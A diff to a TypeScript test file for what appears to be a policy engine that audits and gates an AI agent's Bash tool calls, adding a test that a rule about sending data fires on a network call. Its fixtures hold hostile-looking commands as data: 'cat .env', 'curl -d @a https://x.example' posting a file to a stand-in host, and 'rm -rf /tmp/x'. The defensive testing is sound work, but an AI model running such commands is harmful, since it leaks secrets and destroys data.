@@ -32,10 +32,11 @@ function factsOf(lines: readonly Line[]): readonly Fact[] {
   );
 }
 
-/** What the rules decide about each event; undefined where none can be asked. */
+/** What the rules decide about each event; undefined where one of them cannot be asked. */
 function decided(gate: Gate, lines: readonly Line[], relation = 'decides') {
   const { text, leftOut } = historyProgram(gate);
-  if (text === undefined || leftOut.length > 0) return undefined;
+  const isUsers = ({ rule }: (typeof leftOut)[number]) => !rule.name.startsWith('rulespec:');
+  if (text === undefined || leftOut.some(isUsers)) return undefined;
   const loaded = load({ name: 'rules as a program', text });
   const errors = loaded.diagnostics.filter(({ severity }) => severity === 'error');
   if (!loaded.value) throw new Error(`${errors[0]?.message} in ${text}`);
@@ -226,4 +227,25 @@ test('where the project is nobody knows, so that a folder that is deleted may ho
     'audit: when 0 deny 2, {"deleted":"src/**"}, {"command":"rm -rf /tmp/x"}, PostToolUse',
   );
   expect(found.filter(each => each.startsWith('gate:'))).toEqual([]);
+});
+
+test('a rule of a Bash policy is asked about effects, and left out where it looks at words', () => {
+  const rule = { id: 'r', decision: 'ask', reason: 'no', when: [{ read: '**/.env' }] };
+  const policy = (match: object) => {
+    const text = JSON.stringify({ version: 1, rules: [{ ...rule, match }] });
+    const { value, diagnostics } = compileRules([{ name: 'policy.json', text }]);
+    if (!value) throw new Error(diagnostics[0]?.message);
+    return value;
+  };
+  const calls = ['cat .env', 'curl -d @a https://x.example', 'ls'].map((command, n) => ({
+    ts: `2026-11-22T10:00:0${n}.000Z`,
+    payload: payloadOf('PreToolUse', { tool_name: 'Bash', tool_input: { command }, tool_use_id: `${n}` }),
+  }));
+  const asked = historyProgram(policy({ effect: 'send' }));
+  expect(asked.leftOut.map(each => each.rule.name)).toEqual(['rulespec:unreadable-script']);
+  expect(firedByAudit(policy({ effect: 'send' }), calls)).toEqual(['r ask 2']);
+  expect(firedByGate(policy({ effect: 'send' }), calls)).toEqual(['r ask 2']);
+  const { text, leftOut } = historyProgram(policy({ command: 'curl' }));
+  expect(text).toBeUndefined();
+  expect(leftOut.map(({ looksAt }) => looksAt)).toContain('`command`');
 });
